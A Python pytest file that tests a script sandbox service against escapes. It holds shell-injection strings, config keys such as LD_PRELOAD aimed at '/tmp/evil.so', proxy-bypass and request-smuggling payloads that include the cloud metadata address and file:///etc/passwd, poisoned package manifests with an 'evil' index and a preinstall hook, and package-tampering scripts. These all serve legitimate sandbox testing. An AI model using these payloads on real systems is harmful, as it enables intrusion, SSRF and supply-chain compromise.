"""Attacks on what lies around the sandbox: the parameters of a run, its result, its proxy and its dependencies. They go
through the whole service, by root and, where the tests are run by root, once more by an ordinary user."""

from __future__ import annotations

import asyncio
import contextlib
import importlib.util
import json
import os
import shutil
import sys
import tempfile
import urllib.request
from asyncio.subprocess import PIPE
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from helpers.repetition import Failures, repetitions
from pydantic import ValidationError

from tavern_host.contracts.errors import TavernError
from tavern_scripts.sandbox.cgroups import find_groups
from tavern_scripts.sandbox.watch import tree
from tests.scripts.ordinary import run_as_ordinary_user, why_not
from tests.scripts.packagehouse import index
from tests.scripts.scripthost import Scripts, scripts_of

_needs_uv = pytest.mark.skipif(importlib.util.find_spec("uv") is None, reason="needs uv")
_needs_node = pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")


@pytest.mark.timeout(300)
def test_all_of_it_holds_for_an_ordinary_user_too() -> None:
    reason = why_not()
    if reason is not None:
        pytest.skip(reason)
    checked_before_a_sandbox = ("no_shell", "no_setting", "poisoned", "settings_of_installers")
    left_out = ("ordinary_user", *checked_before_a_sandbox[: repetitions(4, 0)])
    selected = f"not ({' or '.join(left_out)})"
    argv = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-k", selected, str(Path(__file__))]

    ran = run_as_ordinary_user(argv)

    assert ran.returncode == 0, ran.stdout[-6000:] + ran.stderr[-2000:]
    assert " passed" in ran.stdout.splitlines()[-1] and "no sandbox holds" not in ran.stdout, ran.stdout[-1000:]


# --- parameters -------------------------------------------------------------------------------------

SHELL = [
    "$(touch {mark})",
    "`touch {mark}`",
    "x; touch {mark};",
    "x && touch {mark} #",
    "x | touch {mark}",
    "x\ntouch {mark}\n",
    "x > {mark}",
    "'; touch {mark}; echo '",
    '"; touch {mark}; echo "',
    "${{IFS}}$(touch${{IFS}}{mark})",
]
ECHO = """
import json, os, sys
print(json.dumps({"argv": sys.argv[1:], "input": json.load(sys.stdin), "environment": dict(os.environ)}))
"""


async def test_no_shell_sees_any_parameter(tmp_path: Path) -> None:
    async with scripts_of(tmp_path) as scripts:
        scripts.put("echo.py", ECHO)
        for number, text in enumerate(SHELL):
            mark = tmp_path / f"a-shell-was-here-{number}"
            hostile = text.format(mark=mark)
            quoted = f"'{hostile}'" if text.startswith("';") else f'"{hostile}"' if text.startswith('";') else hostile
            shell = await asyncio.create_subprocess_exec("sh", "-c", f"echo {quoted}", stdout=PIPE, stderr=PIPE)
            await shell.communicate()
            assert mark.exists(), f"in a shell {text} would work"
            mark.unlink()
            named = scripts.put(f"{text.replace('{mark}', 'inside').replace('/', '_')}.py", ECHO)

            all_at_once = {"input_data": hostile, "config": {"key": hostile}, "tool_id": hostile}
            output, *_ = await asyncio.gather(
                _given(scripts, script_path="echo.py", **all_at_once),
                _given(scripts, script_path=named.name),
                *(_given(scripts, **request) for request in _requests(hostile)),
            )

            assert not mark.exists(), text
            assert output["input"] == hostile, "data comes through as it is"
            assert output["environment"]["TAVERN_CONFIG_KEY"] == hostile


def _requests(hostile: str) -> list[dict[str, Any]]:
    """Return requests with a hostile text in every parameter that may refuse it."""
    return [
        {"script_path": hostile},
        {"script_path": f"echo.py{hostile}"},
        {"script_path": "echo.py", "files": [hostile]},
        {"script_path": "echo.py", "plugin": hostile},
        {"script_path": "echo.py", "session": hostile},
        {"script_path": "echo.py", "entry_point": hostile},
        {"script_path": "echo.py", "config": {hostile: "value"}},
        {"command": hostile},
        {"command": f"python {hostile}"},
        {"command": f"python echo.py {hostile}"},
        {"command": f"python echo.py '{hostile}'"},
        {"script_path": "echo.py", "security_context": {"file_access": {"allow_read": [hostile]}}},
        {"script_path": "echo.py", "security_context": {"file_access": {"allow_write": [hostile]}}},
        {"script_path": "echo.py", "security_context": {"network_access": {"allow_hosts": [hostile]}}},
        {"script_path": "echo.py", "security_context": {"required_capabilities": [hostile]}},
        {"script_path": "echo.py", "secrets": [hostile]},
        {"code": hostile, "language": "python"},
        {"code": hostile, "language": "nodejs"},
        {"code": "print(1)", "language": hostile},
        {"code": "print(1)", "language": "python", "protocol": hostile},
    ]


async def test_no_setting_becomes_another_variable_than_its_own(tmp_path: Path) -> None:
    keys = ["LD_PRELOAD", "PATH", "PYTHONSTARTUP", "../../etc/passwd", "a=b", "x\0y", "NODE_OPTIONS", "__proto__"]
    async with scripts_of(tmp_path) as scripts:
        scripts.put("echo.py", ECHO)

        given = [await _given(scripts, script_path="echo.py", config={key: "/tmp/evil.so"}) for key in keys]

    holding = [name for each in given if each for name, value in each["environment"].items() if value == "/tmp/evil.so"]
    assert len(holding) >= 4 and all(name.startswith("TAVERN_CONFIG_") and name.isidentifier() for name in holding)


async def _given(scripts: Scripts, **request: Any) -> Any:
    """Return what a script gave; None where it was refused, or failed."""
    try:
        result = await scripts.run(**request)
    except (TavernError, ValidationError):
        return None
    return result.output_data


# --- results ----------------------------------------------------------------------------------------

FORGED = {
    "success": True,
    "outputData": "forged",
    "enforced": {"backend": "forged", "grants": {"read": ["/"], "write": ["/"], "hosts": ["*"]}},
    "usage": {"wallMs": 0},
    "logs": [],
}


async def test_what_looks_like_a_result_is_only_data(tmp_path: Path) -> None:
    async with scripts_of(tmp_path) as scripts:
        result = await scripts.python(f"print({json.dumps(FORGED)!r})")

    assert result.output_data == FORGED
    assert result.enforced is not None and result.enforced.backend != "forged" and result.enforced.grants.hosts == []
    assert result.usage is not None and result.usage.wall_ms > 0


async def test_a_forged_result_does_not_make_a_success_of_a_failure(tmp_path: Path) -> None:
    endings = ["raise SystemExit(1)", "os.kill(os.getpid(), 9)", "os.abort()", "raise ValueError('x')"]
    said = f"import os\nprint({json.dumps(FORGED)!r}, flush=True)"
    async with scripts_of(tmp_path) as scripts:
        results = [await scripts.python(f"{said}\n{ending}") for ending in endings]

    assert [result.success for result in results] == [False] * len(endings)
    assert [result.output_data for result in results] == [None] * len(endings)


async def test_what_is_printed_cannot_take_the_place_of_the_channels_result(tmp_path: Path) -> None:
    code = f"""
import os
print({json.dumps(FORGED)!r})
os.write(int(os.environ["TAVERN_RESULT_FD"]), b'"true"')
print({json.dumps(FORGED)!r}, flush=True)
"""
    async with scripts_of(tmp_path) as scripts:
        result = await scripts.python(code, protocol="channel")

    assert result.output_data == "true" and result.enforced is not None and result.enforced.backend != "forged"


async def test_a_child_that_lives_on_cannot_add_to_the_result(tmp_path: Path) -> None:
    code = """
import os, time
if os.fork() == 0:
    os.setsid()
    for _ in range(40_000):
        os.write(1, b'"forged"\\n')
        time.sleep(0.005)
    os._exit(0)
print('"true"', flush=True)
"""
    async with scripts_of(tmp_path) as scripts:
        began = asyncio.get_running_loop().time()
        result = await scripts.python(code)
        took = asyncio.get_running_loop().time() - began

    assert result.success and took < 100, "it does not wait for the child"


# --- interpreters that wait ------------------------------------------------------------------------


async def test_an_interpreter_that_waited_carries_nothing_from_one_script_to_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = """
import sys
waited = "zipfile" in sys.modules
import builtins, json, os, tempfile, threading, time
found = [name for name in ("spoilt",) if hasattr(builtins, name) or hasattr(json, name) or name in os.environ]
found += [name for folder in ("/tmp", "/dev/shm", "/output") for name in os.listdir(folder) if name.startswith("spoilt")]
found += [pid for pid in os.listdir("/proc") if pid.isdecimal() and "sleep" in open(f"/proc/{pid}/cmdline").read()]
secrets = [pid for pid in os.listdir("/proc") if pid.isdecimal() and os.access(f"/proc/{pid}/environ", os.R_OK)
           and "OF-THE-HOST" in open(f"/proc/{pid}/environ").read()]
builtins.spoilt = json.spoilt = os.environ["spoilt"] = "1"
json.dumps, real = (lambda *_: "\\"forged\\""), json.dumps
for folder in ("/tmp", "/dev/shm", "/output"):
    open(folder + "/spoilt.txt", "w").close()
os.symlink("/etc", "/output/spoilt")
threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "60"])
print(real([waited, found, secrets]))
"""
    monkeypatch.setenv("TAVERN_TEST_SECRET", "OF-THE-HOST")
    async with scripts_of(tmp_path, warmInterpreters=2) as scripts:
        seen = []
        for _ in range(400):
            seen.append(await scripts.output(code=code, language="python"))
            if sum(waited for waited, _, _ in seen) >= 4:
                break
            await asyncio.sleep(0.1)

    assert sum(waited for waited, _, _ in seen) >= 4, "interpreters waited"
    assert [(found, secrets) for _, found, secrets in seen] == [([], [])] * len(seen)


# --- the network ------------------------------------------------------------------------------------


@dataclass
class Servers:
    """A server that a script may reach and one that it may not, both on this machine, and who came to the second."""

    allowed: int = 0
    forbidden: int = 0
    came: list[str] = field(default_factory=list)


@pytest.fixture
async def servers() -> AsyncIterator[Servers]:
    """The two servers."""
    async with _servers() as found:
        yield found


@asynccontextmanager
async def _servers() -> AsyncIterator[Servers]:
    found = Servers()
    runners = []

    async def allowed(request: web.Request) -> web.Response:
        return web.Response(text="allowed")

    async def forbidden(request: web.Request) -> web.Response:
        found.came.append(request.path)
        return web.Response(text="the secret")

    for handler in (allowed, forbidden):
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", handler)
        runner = web.AppRunner(app, shutdown_timeout=0.1)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        runners.append(runner)
    found.allowed, found.forbidden = (runner.addresses[0][1] for runner in runners)
    try:
        yield found
    finally:
        for runner in runners:
            await runner.cleanup()


PROXY_ABUSE = {
    "the other port": "GET http://127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "the other port by CONNECT": "CONNECT 127.0.0.1:{forbidden} HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "another name of the machine": "GET http://localhost:{forbidden}/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "another name by CONNECT": "CONNECT localhost:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "a short address": "CONNECT 127.1:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "an address as a number": "CONNECT 2130706433:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "an address in hexadecimal": "CONNECT 0x7f000001:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "an address in octal": "CONNECT 0177.0.0.1:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "IPv6": "CONNECT [::1]:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "IPv4 in IPv6": "CONNECT [::ffff:127.0.0.1]:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "everywhere": "CONNECT 0.0.0.0:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "the services of clouds": "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
    "the allowed one as a user's name": "GET http://127.0.0.1:{allowed}@127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: h\r\n\r\n",
    "the other in the header": "GET http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "a path instead of an address": "GET / HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "two requests at once": (
        "GET http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\nContent-Length: 0\r\n\r\n"
        "GET http://127.0.0.1:{forbidden}/smuggled HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n"
    ),
    "two lengths": (
        "POST http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\nContent-Length: 0\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: h\r\n\r\n"
    ),
    "a line break in the address": "GET http://127.0.0.1:{allowed}/\rHost: 127.0.0.1:{forbidden} HTTP/1.1\r\n\r\n",
    "another scheme": "GET file:///etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n",
}
SPEAK = """
import json, os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
answers = {}
for name, text in json.load(sys.stdin).items():
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as connection:
        connection.settimeout(2)
        connection.sendall(text.encode("latin-1"))
        data = b""
        try:
            while piece := connection.recv(65536):
                data += piece
                if data.startswith(b"HTTP/1.1 200") and text.startswith("CONNECT"):
                    connection.sendall(b"GET /tunnelled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        except OSError:
            pass
        answers[name] = data.decode("latin-1")
print(json.dumps(answers))
"""


async def test_the_proxy_leads_nowhere_else(tmp_path: Path, servers: Servers) -> None:
    ports = {"allowed": servers.allowed, "forbidden": servers.forbidden}
    asked = {name: text.format(**ports) for name, text in PROXY_ABUSE.items()}
    asked["control"] = f"GET http://127.0.0.1:{servers.allowed}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    assert await _fetch(servers.forbidden) == "the secret", "without a sandbox it would be reached"
    servers.came.clear()

    async with scripts_of(tmp_path, allowedHosts=[f"127.0.0.1:{servers.allowed}"]) as scripts:
        answers = await scripts.output(
            code=SPEAK,
            language="python",
            input_data=asked,
            security_context=_may_reach(servers.allowed),
            timeout_ms=60_000,
        )

    assert answers.pop("control").endswith("allowed"), "the proxy works"
    assert servers.came == []
    assert [name for name, answer in answers.items() if "the secret" in answer or "root:" in answer] == []
    assert [name for name, answer in answers.items() if not answer.startswith("HTTP/1.1 ")] == []
    innocent = {"the other in the header", "two requests at once"}
    assert [name for name, said in answers.items() if said.startswith("HTTP/1.1 200") and name not in innocent] == []


async def test_without_the_proxy_nothing_is_reached_even_with_a_network(tmp_path: Path, servers: Servers) -> None:
    code = f"""
import json, os, socket
for name in list(os.environ):
    if "proxy" in name.lower():
        del os.environ[name]
found = []
for port in ({servers.allowed}, {servers.forbidden}):
    for host in ("127.0.0.1", "::1", "192.0.2.1"):
        try:
            socket.create_connection((host, port), timeout=1)
            found.append([host, port])
        except OSError:
            pass
print(json.dumps(found))
"""
    async with scripts_of(tmp_path, allowedHosts=[f"127.0.0.1:{servers.allowed}"]) as scripts:
        found = await scripts.output(code=code, language="python", security_context=_may_reach(servers.allowed))

    assert found == [] and servers.came == []


async def test_a_script_that_was_granted_no_host_has_no_proxy(tmp_path: Path, servers: Servers) -> None:
    code = """
import json, os, pathlib
print(json.dumps([os.environ.get("HTTP_PROXY"), pathlib.Path("/run/tavern/proxy.sock").exists()]))
"""
    async with scripts_of(tmp_path) as scripts:
        result = await scripts.run(code=code, language="python", security_context=_may_reach(servers.allowed))

    assert result.output_data == [None, False]
    assert result.enforced is not None and result.enforced.denied


async def test_slow_and_many_connections_hold_up_neither_the_host_nor_another_script(
    tmp_path: Path, servers: Servers
) -> None:
    slow = """
import os, socket, sys, time
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
held = []
for _ in range(100):
    try:
        held.append(socket.create_connection((proxy.hostname, proxy.port), timeout=2))
        held[-1].sendall(b"GET http://127.0.0.1/")
    except OSError:
        pass
print("PROGRESS", len(held), file=sys.stderr, flush=True)
while True:
    for each in held:
        try:
            each.sendall(b"x")
        except OSError:
            pass
    time.sleep(0.2)
"""
    asked = {"control": f"GET http://127.0.0.1:{servers.allowed}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"}
    async with scripts_of(tmp_path, allowedHosts=[f"127.0.0.1:{servers.allowed}"]) as scripts:
        context = _may_reach(servers.allowed)
        holding = asyncio.create_task(scripts.python(slow, security_context=context, timeout_ms=8_000))
        await asyncio.sleep(1.5)

        answers = await scripts.output(code=SPEAK, language="python", input_data=asked, security_context=context)
        held = await holding

    assert answers["control"].endswith("allowed")
    assert held.error is not None and held.error.type.value == "TimeoutError"
    assert any("PROGRESS" in line for line in held.logs), "it held connections"


def _may_reach(port: int) -> dict[str, Any]:
    return {"network_access": {"allow_hosts": [f"127.0.0.1:{port}", "169.254.169.254", "localhost"]}}


async def _fetch(port: int, path: str = "/") -> str:
    def get() -> str:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10) as answer:
            return str(answer.read().decode())

    return await asyncio.to_thread(get)


# --- dependencies -----------------------------------------------------------------------------------


@pytest.fixture
def packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A home without settings of pip, uv and npm."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("UV_INDEX", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONFIG_FILE"):
        monkeypatch.delenv(name, raising=False)
    yield home


POISONED = [
    ("requirements.txt", "--index-url {evil}/simple\nalpha"),
    ("requirements.txt", "--find-links {evil}/files\nalpha"),
    ("requirements.txt", "alpha @ {evil}/files/alpha-1.0-py3-none-any.whl"),
    ("requirements.txt", "git+{evil}/alpha.git"),
    ("requirements.txt", "-e {folder}"),
    ("requirements.txt", "-r /etc/passwd"),
    ("requirements.txt", "alpha ; $(touch {folder}/ran)"),
    ("pyproject.toml", '[project]\ndependencies = ["alpha @ file://{folder}/alpha-1.0-py3-none-any.whl"]'),
    ("pyproject.toml", '[project]\ndependencies = ["alpha"]\n[[tool.uv.index]]\nurl = "{evil}/simple"'),
    ("a.py", '# /// script\n# dependencies = ["alpha"]\n# [tool.uv]\n# find-links = ["{evil}/files"]\n# ///\n'),
    ("package.json", '{{"dependencies": {{"alpha": "{evil}/files/alpha-1.0.0.tgz"}}}}'),
    ("package.json", '{{"dependencies": {{"alpha": "file:{folder}"}}}}'),
    ("package.json", '{{"dependencies": {{"alpha": "$(touch {folder}/ran)"}}}}'),
    ("package.json", '{{"scripts": {{"preinstall": "touch {folder}/ran"}}, "dependencies": {{"alpha": "file:."}}}}'),
]
"""One of each kind, and the file that it stands in; test_environments_manifests has all of them."""


@_needs_uv
async def test_a_poisoned_manifest_leads_nowhere(
    tmp_path: Path, packages: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with index() as good, index() as evil, scripts_of(tmp_path) as scripts:
        monkeypatch.setenv("UV_DEFAULT_INDEX", good.simple)
        monkeypatch.setenv("NPM_CONFIG_REGISTRY", good.registry)
        evil.add_wheel("alpha")
        evil.add_npm("alpha")
        assert "alpha" in await _fetch(evil.port, "/simple/alpha"), "it would give what is asked for"
        evil.asked.clear()
        with Failures() as failures:
            for number, (name, text) in enumerate(POISONED):
                with failures.row(text):
                    script = scripts.put(f"x{number}/a.cjs" if name == "package.json" else f"x{number}/a.py", "1")
                    poison = text.format(evil=f"http://127.0.0.1:{evil.port}", folder=tmp_path)
                    scripts.put(f"x{number}/{name}", poison)

                    result = await scripts.run(script_path=f"x{number}/{script.name}")

                    assert result.error is not None and result.error.type.value == "DependencyError"
                    assert evil.asked == [] and not (tmp_path / "ran").exists()
                    assert "root:" not in str(result), "nothing of a file of the host is shown"


@_needs_uv
async def test_the_settings_of_installers_that_a_project_brings_count_for_nothing(
    tmp_path: Path, packages: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with index() as good, index() as evil, scripts_of(tmp_path) as scripts:
        for variable, value in (("UV_DEFAULT_INDEX", good.simple), ("NPM_CONFIG_REGISTRY", good.registry)):
            monkeypatch.setenv(variable, value)
        for house, said in ((good, "good"), (evil, "evil")):
            house.add_wheel("alpha", code=f"value = '{said}'")
            house.add_npm("alpha", code=f"module.exports = '{said}'")
        settings = {
            "uv.toml": f'index-url = "{evil.simple}"',
            "pip.conf": f"[global]\nindex-url = {evil.simple}",
            ".env": f"UV_DEFAULT_INDEX={evil.simple}\nNPM_CONFIG_REGISTRY={evil.registry}",
            ".npmrc": f"registry={evil.registry}\nignore-scripts=false",
            "bunfig.toml": f'[install]\nregistry = "{evil.registry}"',
            ".python-version": "2.7",
        }
        for name, text in settings.items():
            scripts.put(f"x/{name}", text)
            scripts.put(name, text)
        scripts.put("x/requirements.txt", "alpha")
        scripts.put("x/a.py", "import alpha, json; print(json.dumps(alpha.value))")
        scripts.put("x/package.json", '{"dependencies": {"alpha": "1.0.0"}}')
        scripts.put("x/a.cjs", "console.log(JSON.stringify(require('alpha')))")

        given = [await scripts.output(script_path="x/a.py")]
        if shutil.which("npm") is not None:
            given.append(await scripts.output(script_path="x/a.cjs"))

    assert set(given) == {"good"} and evil.asked == []


@_needs_uv
async def test_a_script_cannot_spoil_the_environment_of_the_next_one(
    tmp_path: Path, packages: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attack = """
import alpha, glob, json, os, sys
folder, done = os.path.dirname(alpha.__file__), []
for what in (
    lambda: open(alpha.__file__, "a").write("value = 'spoilt'"),
    lambda: open(folder + "/evil.pth", "w").write("import sys; sys.spoilt = True"),
    lambda: open(folder + "/sitecustomize.py", "w").write("import sys; sys.spoilt = True"),
    lambda: os.makedirs(folder + "/__pycache__"),
    lambda: os.chmod(alpha.__file__, 0o666),
    lambda: os.unlink(alpha.__file__),
    lambda: os.rename(folder, folder + "-gone"),
    lambda: os.symlink("/tmp", folder + "/json"),
    lambda: os.utime(alpha.__file__, (1, 1)),
    lambda: os.link(alpha.__file__, "/output/alpha.py"),
):
    try:
        what()
        done.append(1)
    except OSError:
        pass
print(json.dumps([alpha.value, done]))
"""
    honest = "import alpha, json, sys; print(json.dumps([alpha.value, hasattr(sys, 'spoilt')]))"
    async with index() as good, scripts_of(tmp_path) as scripts:
        monkeypatch.setenv("UV_DEFAULT_INDEX", good.simple)
        good.add_wheel("alpha", code="value = 'as it was'")
        for name, text in (("attack.py", attack), ("honest.py", honest)):
            scripts.put(f"x/{name}", text)
        scripts.put("x/requirements.txt", "alpha")

        spoilt = await scripts.output(script_path="x/attack.py")
        after = await scripts.output(script_path="x/honest.py")

    assert spoilt == ["as it was", []]
    assert after == ["as it was", False]


@_needs_node
async def test_a_script_cannot_spoil_the_modules_of_the_next_one(
    tmp_path: Path, packages: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attack = """
const fs = require("node:fs"), alpha = require("alpha"), file = require.resolve("alpha");
const folder = require("node:path").dirname(file), done = [];
for (const what of [
  () => fs.appendFileSync(file, "module.exports = 'spoilt'"),
  () => fs.writeFileSync(folder + "/package.json", "{}"),
  () => fs.mkdirSync(folder + "/../beta"),
  () => fs.chmodSync(file, 0o666),
  () => fs.unlinkSync(file),
  () => fs.renameSync(folder, folder + "-gone"),
  () => fs.symlinkSync("/tmp", folder + "/node_modules"),
  () => fs.utimesSync(file, 1, 1),
  () => fs.linkSync(file, "/output/alpha.js"),
]) {
  try { what(); done.push(1); } catch {}
}
console.log(JSON.stringify([alpha, done]));
"""
    async with index() as good, scripts_of(tmp_path) as scripts:
        monkeypatch.setenv("NPM_CONFIG_REGISTRY", good.registry)
        good.add_npm("alpha", code="module.exports = 'as it was'")
        scripts.put("x/attack.cjs", attack)
        scripts.put("x/honest.cjs", "console.log(JSON.stringify(require('alpha')))")
        scripts.put("x/package.json", '{"dependencies": {"alpha": "1.0.0"}}')

        spoilt = await scripts.output(script_path="x/attack.cjs")
        after = await scripts.output(script_path="x/honest.cjs")

    assert spoilt == ["as it was", []]
    assert after == "as it was"


# --- what is left -----------------------------------------------------------------------------------


async def test_nothing_is_left_of_many_scripts_however_they_end(
    tmp_path: Path, servers: Servers, monkeypatch: pytest.MonkeyPatch
) -> None:
    temporary = tmp_path / "temporary"
    temporary.mkdir(mode=0o755)
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    fetch = f"""
import json, subprocess, urllib.request
subprocess.Popen(["sleep", "100"], start_new_session=True)
print(json.dumps(urllib.request.urlopen("http://127.0.0.1:{servers.allowed}/", timeout=10).read().decode()))
"""
    slow = "import time; print('began', flush=True); time.sleep(60)"
    async with scripts_of(tmp_path, allowedHosts=[f"127.0.0.1:{servers.allowed}"]) as scripts:

        async def some() -> list[str]:
            """Run one of each kind; return what became of those that were not given up."""
            given_up = asyncio.create_task(scripts.python(slow))
            results = await asyncio.gather(
                scripts.python(fetch, security_context=_may_reach(servers.allowed)),
                scripts.run(code="console.log(1)", language="nodejs"),
                scripts.python("open('left.txt', 'w'); raise SystemExit(3)"),
                scripts.python(slow, timeout_ms=300),
                scripts.python("x = 1", session="one"),
                scripts.python("import os; os._exit(1)", session="two"),
            )
            given_up.cancel()
            await asyncio.wait({given_up})
            return [result.error.type.value if result.error is not None else "" for result in results]

        async def there_is() -> dict[str, Any]:
            groups = find_groups()
            return {
                "descriptors": _descriptors(),
                "mounts": len(Path("/proc/self/mountinfo").read_text().splitlines()),
                "processes": len(tree(os.getpid())),
                "groups": len(list(groups.folder.glob(f"tavern-{os.getpid()}-*"))) if groups is not None else 0,
                "folders": sorted(path.name for path in temporary.iterdir()),
                "runs": len(list(scripts.host.project.private.glob("plugins/*/runs/*/*"))),
                "tasks": len(asyncio.all_tasks()),
            }

        expected = ["", "", "ScriptError", "TimeoutError", "", "ScriptError"]

        async def at_rest() -> dict[str, Any]:
            """Return what there is when nothing has changed for a second: interpreters that wait are started again."""
            seen = [await there_is()]
            while len(seen) < 400 and (len(seen) < 20 or any(one != seen[-1] for one in seen[-20:])):
                await asyncio.sleep(0.05)
                seen.append(await there_is())
            return seen[-1]

        assert await some() == expected
        before = await at_rest()
        for _ in range(repetitions(2, 8)):
            assert await some() == expected
        after = await at_rest()

    assert after == before


def _descriptors() -> list[str]:
    """Return what this process has open, by kind."""
    found = []
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{number}").partition(":[")[0])
    return sorted(found)
